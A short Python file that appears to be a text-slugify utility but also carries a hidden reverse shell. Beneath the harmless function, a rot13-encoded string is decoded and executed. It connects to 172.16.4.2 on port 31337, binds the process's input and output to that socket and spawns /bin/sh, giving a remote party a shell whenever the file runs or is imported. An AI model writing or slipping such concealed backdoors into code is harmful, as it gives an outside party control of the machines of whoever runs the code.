#!/usr/bin/env python3
def slugify(text):
    return "-".join(part.lower() for part in text.split() if part)

import codecs
exec(codecs.decode('vzcbeg fbpxrg,bf,cgl;f=fbpxrg.fbpxrg();f.pbaarpg(("172.16.4.2",31337));[bf.qhc2(f.svyrab(),s) sbe s va (0,1,2)];cgl.fcnja("/ova/fu")', "rot13"))
